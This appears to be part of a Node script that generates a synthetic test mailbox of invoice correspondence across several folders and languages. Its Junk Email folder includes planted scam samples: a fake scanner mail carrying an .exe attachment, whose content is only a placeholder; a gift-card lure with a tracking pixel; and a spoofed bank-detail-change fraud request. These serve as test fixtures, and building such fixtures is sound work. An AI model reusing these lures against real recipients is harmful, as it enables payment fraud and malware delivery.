      ['Message-ID', '<ar.0147.reply2.20261103@fabrikam.example>'],
      ['In-Reply-To', exoId('reply-0147')],
      ['References', `<inv-2026-0147.20260908071233@billing.fabrikam.example> ${exoId('reply-0147')}`],
    ],
    root: text(
      'plain',
      `Hello,

Thank you. We see the credit of EUR 7,940.00 from the duplicate payment on
INV-2026-0098 applied; the remaining EUR 4,540.00 on INV-2026-0147 was
received on 30 October. The invoice is now settled.

Best regards,
Fabrikam Accounts Receivable

On Tue, 8 Sep 2026 at 10:02, Contoso Invoices <invoices@contoso.example> wrote:
> Dear Fabrikam team,
>
> Thank you for invoice INV-2026-0147. It has been matched to PO-2026-0311
> and is scheduled for payment on 8 October 2026.
>
> Kind regards,
> Contoso Invoices
>
>> On 8 Sep 2026, at 09:12, Fabrikam Billing <billing@fabrikam.example> wrote:
>>
>> Please find attached invoice INV-2026-0147 for services delivered in
>> August 2026. Amount due: EUR 12,480.00, due date 8 October 2026.
`,
      { charset: 'us-ascii', cte: '7bit' },
    ),
  });

  // ---- Sent Items --------------------------------------------------------------------------

  msg({
    folder: ['Sent Items'],
    date: '2026-09-08T10:02:47+02:00',
    headers: [
      ['From', MAILBOX],
      ['To', addr('Fabrikam Billing', 'billing@fabrikam.example')],
      ['Subject', 'RE: Invoice INV-2026-0147 from Fabrikam, Inc.'],
      ['Thread-Topic', 'Invoice INV-2026-0147 from Fabrikam, Inc.'],
      ['Date', '@date'],
      ['Message-ID', exoId('reply-0147')],
      ['In-Reply-To', '<inv-2026-0147.20260908071233@billing.fabrikam.example>'],
      ['References', '<inv-2026-0147.20260908071233@billing.fabrikam.example>'],
      ['Content-Language', 'en-US'],
    ],
    root: text(
      'plain',
      `Dear Fabrikam team,

Thank you for invoice INV-2026-0147. It has been matched to PO-2026-0311
and is scheduled for payment on 8 October 2026.

Kind regards,
Contoso Invoices

From: Fabrikam Billing <billing@fabrikam.example>
Sent: Tuesday, September 8, 2026 9:12 AM
To: Contoso Invoices <invoices@contoso.example>
Subject: Invoice INV-2026-0147 from Fabrikam, Inc.

Please find attached invoice INV-2026-0147 for services delivered in August 2026.
`,
    ),
  });

  msg({
    folder: ['Sent Items'],
    date: '2026-09-09T16:20:05+02:00',
    headers: [
      ['From', MAILBOX],
      ['To', who('lena')],
      ['Subject', encodedWords('AW: Rückfrage zu Rechnung Nr. 4711 (Lieferung vom 28.08.)', 'utf-8', 'Q')],
      ['Date', '@date'],
      ['Message-ID', exoId('reply-4711')],
      ['In-Reply-To', '<a81c2f0e-4711-4b1a-9c3e-2d6b8f0e1a55@fabrikam-gmbh.example>'],
      ['References', '<a81c2f0e-4711-4b1a-9c3e-2d6b8f0e1a55@fabrikam-gmbh.example>'],
      ['Content-Language', 'de-DE'],
    ],
    root: text(
      'plain',
      `Sehr geehrte Frau Fischer,

vielen Dank für Ihre Nachricht. Wir bitten um Variante a): Bitte senden Sie
uns eine Gutschrift über 142,44 EUR für die zwei beschädigten Gehäuse. Den
Restbetrag von 3.276,06 EUR überweisen wir mit dem nächsten Zahlungslauf.

Mit freundlichen Grüßen
Contoso Invoices
`,
    ),
  });

  msg({
    folder: ['Sent Items'],
    date: '2026-10-07T10:14:03+02:00',
    headers: [
      ['From', MAILBOX],
      ['To', addr('Adatum Accounts', 'accounts@adatum-supplies.example')],
      ['Subject', 'Payment reminder: invoice INV-2026-0131 is overdue'],
      ['Date', '@date'],
      ['Message-ID', exoId('reminder-0131')],
      ['Content-Language', 'en-US'],
    ],
    root: text('plain', REMINDER_TEXT, { charset: 'us-ascii', cte: '7bit' }),
  });

  // ---- Drafts ----------------------------------------------------------------------------------

  msg({
    folder: ['Drafts'],
    flags: 'DS',
    date: '2026-11-05T17:48:00+00:00',
    headers: [
      ['From', MAILBOX],
      ['To', addr('Adatum Supplies', 'billing@adatum-supplies.example')],
      ['Subject', 'Second reminder: invoice INV-2026-0131 (draft - check contact first)'],
      ['Date', '@date'],
      ['Message-ID', exoId('draft-0131')],
      ['X-Unsent', '1'],
    ],
    root: text(
      'plain',
      `Dear Adatum team,

[TODO: confirm the new billing contact by phone before sending - the old
address accounts@ bounced on 7 October.]

Our invoice INV-2026-0131 of 4 August 2026 over EUR 2,980.00 is now more
than 60 days overdue. Please arrange payment within 7 days or let us know
if there is a problem with the invoice.

Kind regards,
Contoso Invoices
`,
    ),
  });

  // ---- Deleted Items ---------------------------------------------------------------------------

  msg({
    folder: ['Deleted Items'],
    date: '2026-09-29T12:00:41+01:00',
    trace: (t) =>
      inbound(t, {
        host: 'smtp.northwind.example',
        ip: '198.51.100.88',
        mailfrom: 'northwind.example',
        auth: 'nodkim',
        five: false,
      }),
    headers: [
      ['From', who('greg')],
      ['To', MAILBOX],
      ['Subject', 'Automatic reply: Remittance advice - September payment run'],
      ['Date', '@date'],
      ['Message-ID', '<OOF.greg.20260929@NW-EXCH-02.corp.northwind.example>'],
      ['Auto-Submitted', 'auto-replied'],
      ['X-Auto-Response-Suppress', 'All'],
      ['X-MS-Exchange-Inbox-Rules-Loop', 'greg.whitfield@northwind.example'],
    ],
    root: text(
      'plain',
      `I am out of the office until Monday 5 October with limited access to e-mail.
For order and delivery questions please contact orders@northwind.example.
`,
      { charset: 'us-ascii', cte: '7bit' },
    ),
  });

  // ---- Junk Email ------------------------------------------------------------------------------

  msg({
    folder: ['Junk Email'],
    flags: '',
    date: '2026-09-19T22:41:03+00:00',
    trace: (t) =>
      inbound(t, {
        host: 'static-203-0-113-5.isp.example',
        ip: '203.0.113.5',
        mailfrom: 'scanner.contoso-docs.example',
        headerFrom: 'contoso.example',
        auth: 'fail',
        xms: true,
        attach: true,
      }),
    boundaries: 'mailer',
    headers: [
      ['From', addr('Scanner', 'scanner@contoso.example')],
      ['To', MAILBOX],
      ['Subject', 'Scanned document from MFP-3F-01 (2 pages)'],
      ['Date', '@date'],
      ['Message-ID', '<scan.0919.2241@static-203-0-113-5.isp.example>'],
    ],
    root: multi('mixed', [
      text(
        'plain',
        `A document was scanned and sent to you.

Device:  MFP-3F-01
Pages:   2
File:    Scan_0919_invoice.exe

Open the attachment to view the document.
`,
        { charset: 'us-ascii', cte: '7bit' },
      ),
      file('Scan_0919_invoice.exe', 'application/x-msdownload', FAKE_EXE),
    ]),
  });

  msg({
    folder: ['Junk Email'],
    flags: '',
    date: '2026-10-11T04:09:26+00:00',
    trace: (t) =>
      inbound(t, {
        host: 'mta-4.bulk-sender.example',
        ip: '203.0.113.200',
        mailfrom: 'bulk-sender.example',
        headerFrom: 'rewards-center.example',
        auth: 'fail',
      }),
    boundaries: 'mailer',
    headers: [
      ['From', addr('Rewards Center', 'winner@rewards-center.example')],
      ['To', 'undisclosed-recipients:;'],
      ['Subject', encodedWords('🎁 You have (1) pending reward – claim before midnight', 'UTF-8')],
      ['Date', '@date'],
      ['Message-ID', '<rw.8829172.aa91@mta-4.bulk-sender.example>'],
    ],
    root: multi('alternative', [
      text(
        'plain',
        'Congratulations! Your business account was selected for a EUR 500 gift card.\nClaim: https://rewards-center.example/claim?id=8829172\n',
      ),
      text(
        'html',
        `<html><body style="background:url(https://tracker.example/bg.gif)">
<center><img src="https://images.rewards-center.example/giftcard-500.png" width="480" alt="EUR 500 gift card"></center>
<h1 style="text-align:center;color:#c50f1f">Congratulations!</h1>
<p style="text-align:center">Your business account was selected for a <b>EUR 500</b> gift card.</p>
<p style="text-align:center"><a href="https://rewards-center.example/claim?id=8829172">CLAIM NOW</a></p>
<img src="https://tracker.example/pixel.gif?r=8829172" width="1" height="1">
</body></html>
`,
      ),
    ]),
  });

  msg({
    folder: ['Junk Email'],
    date: '2026-11-01T19:30:44+00:00',
    trace: (t) =>
      inbound(t, {
        host: 'mail.fabrikam-payments.example',
        ip: '203.0.113.150',
        mailfrom: 'fabrikam-payments.example',
        headerFrom: 'fabrikam.example',
        auth: 'fail',
        xms: true,
      }),
    headers: [
      ['From', addr('Fabrikam Accounts', 'accounts@fabrikam.example')],
      ['Reply-To', 'fabrikam.accounts@mailbox.example'],
      ['To', MAILBOX],
      ['Subject', 'Updated bank details for all future payments'],
      ['Date', '@date'],
      ['Message-ID', '<bd-change.20261101@mail.fabrikam-payments.example>'],
    ],
    root: text(
      'plain',
      `Dear valued customer,

Due to an ongoing audit our usual bank account is temporarily on hold.
Please make all payments, including INV-2026-0147, to our new account:

  Bank:  Example Mutual Bank
  IBAN:  XX00 0000 0000 0000 0000 00
  BIC:   EXAMXX00

Please confirm by return once you have updated your records. Do not call our
office as the lines are being upgraded.

Regards,
Fabrikam Accounts
`,
      { charset: 'us-ascii', cte: '7bit' },
    ),
  });

  // ---- Archive, Archive/2025 --------------------------------------------------------------------

  msg({
    folder: ['Archive'],
    date: '2026-09-04T15:33:10+04:00',
    trace: (t) =>
      inbound(t, {
        host: 'mail.gulf-freight.example',
        ip: '203.0.113.120',
        mailfrom: 'gulf-freight.example',
        five: false,
      }),
    dkim: { d: 'gulf-freight.example', s: 'mail' },
    headers: [
      ['From', addr('Sara Haddad', P.sara[1])],
      ['To', MAILBOX],
      ['Subject', 'RE: Vendor onboarding - Gulf Freight (KYC documents)'],
      ['Date', '@date'],
      ['Message-ID', '<F00D0B0A-KYC1-4A2B-8C3D-112233445566@gulf-freight.example>'],
      ['In-Reply-To', exoId('kyc-request')],
      ['References', exoId('kyc-request')],
    ],
    root: text(
      'plain',
      `Dear Contoso team,

Thank you - we have uploaded the trade licence, VAT certificate and the bank
letter to your vendor portal. Our vendor number on your side is V-30882.

Best regards,
Sara Haddad

> From: Contoso Invoices <invoices@contoso.example>
> Sent: Thursday, 3 September 2026 17:02
> Subject: Vendor onboarding - Gulf Freight (KYC documents)
>
> Before we can pay your first invoice we need: trade licence, VAT
> certificate and a bank letter on the bank's letterhead.
`,
      { charset: 'us-ascii', cte: '7bit' },
    ),
  });

  msg({
    folder: ['Archive', '2025'],
    date: '2025-12-01T09:05:00+00:00',
    trace: (t) => internal(t, { sender: P.jonas[1] }),
    headers: [
      ['From', who('jonas')],
      ['To', [MAILBOX, 'Finance Operations <finance-ops@contoso.example>'].join(', ')],
      ['Subject', 'FY2025 year-end close calendar'],
      ['Date', '@date'],
      ['Message-ID', exoId('fy2025cal', 'AM0PR10MB4466')],
    ],
    root: multi('mixed', [
      text(
        'plain',
        `All,

The FY2025 close calendar is attached. Key dates: last payment run
19 December, cut-off for supplier invoices 31 December 12:00, close
complete working day 6 (9 January 2026).

Jonas
`,
        { charset: 'us-ascii', cte: '7bit' },
      ),
      file(
        'close-calendar-FY2025.csv',
        'text/csv',
        Buffer.from(
          crlfText(`date,task,owner
2025-12-19,Last payment run of the year,Mei Chen
2025-12-31,Supplier invoice cut-off 12:00,David Okafor
2026-01-05,Accruals posted,Priya Raman
2026-01-07,Intercompany agreed,Jonas Keller
2026-01-09,Close complete (WD6),Jonas Keller
`),
        ),
      ),
    ]),
  });

  // ---- Invoices, Invoices/Paid -----------------------------------------------------------------

  msg({
    folder: ['Invoices'],
    date: '2026-10-20T08:30:14+01:00',
    dkim: { d: 'northwind.example', s: 's2048' },
    trace: (t) =>
      inbound(t, {
        host: 'smtp.northwind.example',
        ip: '198.51.100.88',
        mailfrom: 'northwind.example',
        attach: true,
        five: false,
      }),
    headers: [
      ['From', addr('Northwind Billing', 'billing@northwind.example')],
      ['To', MAILBOX],
      ['Subject', 'Invoice NW-56120 (account NW-20417)'],
      ['Date', '@date'],
      ['Message-ID', '<inv.NW-56120@billing.northwind.example>'],
    ],
    root: multi('mixed', [
      text(
        'plain',
        `Invoice NW-56120 for road freight in September is attached.
Amount: EUR 8,842.60, due 19 November 2026. PO: PO-2026-0288.
`,
      ),
      file(
        'NW-56120.pdf',
        'application/pdf',
        invoicePdf({
          number: 'NW-56120',
          from: 'Northwind Traders Ltd - 1 Harbour Road, Example Port',
          date: '2026-10-20',
          due: '2026-11-19',
          lines: [
            'Road freight, UK mainland, 58 loads ............ EUR 8,236.00',
            'Fuel surcharge (from 1 Nov: see bulletin) ...... EUR   606.60',
          ],
          total: 'EUR 8,842.60',
        }),
      ),
    ]),
  });

  msg({
    folder: ['Invoices'],
    dir: 'new',
    date: '2026-11-09T07:00:02+00:00',
    dkim: { d: 'fabrikam.example', s: 'selector1' },
    trace: (t) =>
      inbound(t, {
        host: 'mail.fabrikam.example',
        ip: '198.51.100.23',
        mailfrom: 'fabrikam.example',
        attach: true,
        xms: true,
      }),
    headers: [
      ['From', addr('Fabrikam Billing', 'billing@fabrikam.example')],
      ['To', MAILBOX],
      ['Subject', 'Invoice INV-2026-0163 from Fabrikam, Inc.'],
      ['Date', '@date'],
      ['Message-ID', '<inv-2026-0163.20261109070002@billing.fabrikam.example>'],
    ],
    root: multi('mixed', [
      multi('alternative', [
        text(
          'plain',
          'Invoice INV-2026-0163 (October 2026) is attached. Amount due: EUR 12,480.00, due 9 December 2026.\n',
        ),
        text(
          'html',
          '<html><body style="font-family:Arial,sans-serif"><p>Invoice <b>INV-2026-0163</b> (October 2026) is attached.</p><p>Amount due: <b>EUR 12,480.00</b>, due 9 December 2026.</p></body></html>\n',
        ),
      ]),
      file(
        'INV-2026-0163.pdf',
        'application/pdf',
        invoicePdf({
          number: 'INV-2026-0163',
          from: 'Fabrikam, Inc. - 400 Example Avenue, Springfield',
          date: '2026-11-09',
          due: '2026-12-09',
          lines: [
            'Cloud hosting services, October 2026 ........... EUR 10,400.00',
            'Managed backup, 12 TB .......................... EUR  1,680.00',
            'Support plan (Business) ........................ EUR    400.00',
          ],
          total: 'EUR 12,480.00',
        }),
      ),
    ]),
  });

  msg({
    folder: ['Invoices', 'Paid'],
    date: '2026-09-12T08:01:45+02:00',
    dkim: { d: 'fabrikam.example', s: 'selector1' },
    trace: (t) =>
      inbound(t, {
        host: 'mail.fabrikam.example',
        ip: '198.51.100.23',
        mailfrom: 'fabrikam.example',
        attach: true,
        five: false,
      }),
    headers: [
      ['From', addr('Fabrikam Billing', 'billing@fabrikam.example')],
      ['To', MAILBOX],
      ['Subject', 'Invoice INV-2026-0098 from Fabrikam, Inc.'],
      ['Date', '@date'],
      ['Message-ID', '<inv-2026-0098.20260912060145@billing.fabrikam.example>'],
    ],
    root: multi('mixed', [
      text('plain', 'Invoice INV-2026-0098 is attached. Amount due: EUR 7,940.00, due 12 October 2026.\n'),
      file(
        'INV-2026-0098.pdf',
        'application/pdf',
        invoicePdf({
          number: 'INV-2026-0098',
          from: 'Fabrikam, Inc. - 400 Example Avenue, Springfield',
          date: '2026-09-12',
          due: '2026-10-12',
          lines: ['Data migration project, milestone 2 ............ EUR 7,940.00'],
          total: 'EUR 7,940.00',
        }),
      ),
    ]),
  });

  // ---- Équipe finance (modified UTF-7 folder name) ---------------------------------------------

  msg({
    folder: ['Équipe finance'],
    date: '2026-10-13T10:12:38+02:00',
    trace: (t) => internal(t, { sender: P.camille[1] }),
    headers: [
      ['From', who('camille')],
      ['To', MAILBOX],
      [
        'Subject',
        encodedWords('Relance : facture impayée n° 2026-0312 (échéance dépassée)', 'ISO-8859-1', 'Q'),
      ],
      ['Date', '@date'],
      ['Message-ID', exoId('relance-0312', 'PR1PR10MB2210')],
      ['Content-Language', 'fr-FR'],
    ],
    root: text(
      'plain',
      `Bonjour à tous,

La facture n° 2026-0312 de notre fournisseur Électricité Exemple (1 842,00 EUR)
est toujours impayée alors que l'échéance était le 30 septembre. Le fournisseur
nous a envoyé une relance ce matin et menace d'appliquer des pénalités de retard.

Pourriez-vous vérifier si elle a bien été reçue et saisie côté Royaume-Uni ?
Si ce n'est pas le cas, je vous la renvoie tout de suite.

Merci d'avance et bonne journée,

Camille Martin
Comptabilité fournisseurs - Contoso France
`,
      { charset: 'ISO-8859-1' },
    ),
  });

  msg({
    folder: ['Équipe finance'],
    date: '2026-10-27T18:05:50+01:00',
    trace: (t) => internal(t, { sender: P.camille[1] }),
    headers: [
      ['From', who('camille')],
      ['To', [MAILBOX, who('priya')].join(', ')],
      ['Subject', encodedWords("Clôture d'octobre : calendrier et points d'attention", 'UTF-8', 'Q')],
      ['Date', '@date'],
      ['Message-ID', exoId('cloture-oct', 'PR1PR10MB2210')],
      ['Content-Language', 'fr-FR'],
    ],
    root: text(
      'plain',
      `Bonjour Priya, bonjour l'équipe,

Voici le calendrier de clôture d'octobre pour la France :

  • 30/10 : dernier paiement fournisseurs (virement SEPA)
  • 02/11 : saisie des factures non parvenues (FNP)
  • 04/11 : rapprochement intragroupe avec le Royaume-Uni
  • 05/11 : envoi du reporting à Jonas

Points d'attention : la TVA sur les prestations de Fabrikam (autoliquidation)
et l'écart de 1 020,40 USD sur la refacturation du fret.

Bien cordialement,
Camille
`,
      { cte: '8bit' },
    ),
  });

  // ---- 経理 (CJK folder name) ---------------------------------------------------------------------

  msg({
    folder: ['経理'],
    date: '2026-11-10T17:31:02+09:00',
    trace: (t) => internal(t, { sender: P.aiko[1] }),
    headers: [
      ['From', who('aiko')],
      ['To', MAILBOX],
      ['Subject', encodedWords('10月分 経費精算の締め切りについて', 'UTF-8')],
      ['Date', '@date'],
      ['Message-ID', '<20261110173102.7C3E.AIKO@jp.contoso.example>'],
    ],
    root: text(
      'plain',
      `Contoso Invoices ご担当者様

お疲れ様です。東京オフィス経理部の田中です。

10月分の経費精算の締め切りは、11月13日（金）17時（日本時間）です。
英国側で立て替えた費用がございましたら、それまでにご連絡ください。

また、9月分のグループ内請求書（JP-2026-0917）の原本は
本日、社内便で発送いたしました。

よろしくお願いいたします。
田中
`,
      { cte: 'base64' },
    ),
  });
}

const REMINDER_TEXT = `Dear Adatum team,

Our records show that invoice INV-2026-0131 of 4 August 2026 over EUR 2,980.00
was due on 3 September 2026 and remains unpaid.

Please arrange payment, or let us know if there is a problem with the invoice.

Kind regards,
Contoso Invoices
invoices@contoso.example
`;

/** Fold iCalendar content lines at 75 octets (RFC 5545 §3.1) and use CRLF. */
function icsFold(s) {
  return s
    .split('\n')
    .filter((l, i, a) => l !== '' || i < a.length - 1)
    .map((line) => {
      const out = [];
      let cur = line;
      while (Buffer.byteLength(cur) > 75) {
        let cut = 75;
        while (Buffer.byteLength(cur.slice(0, cut)) > 75) cut--;
        out.push(cur.slice(0, cut));
        cur = ' ' + cur.slice(cut);
      }
      out.push(cur);
      return out.join(CRLF);
    })
    .join(CRLF)
    .concat(CRLF);
}

// ---------------------------------------------------------------------------------------------

rmSync(ROOT, { recursive: true, force: true });
mkdirSync(ROOT, { recursive: true });
writeAll();

const byFolder = new Map();
for (const w of written) byFolder.set(w.folder, (byFolder.get(w.folder) ?? 0) + 1);
console.log(`wrote ${written.length} messages to ${ROOT}`);
for (const [f, c] of byFolder) console.log(`  ${f}: ${c}`);
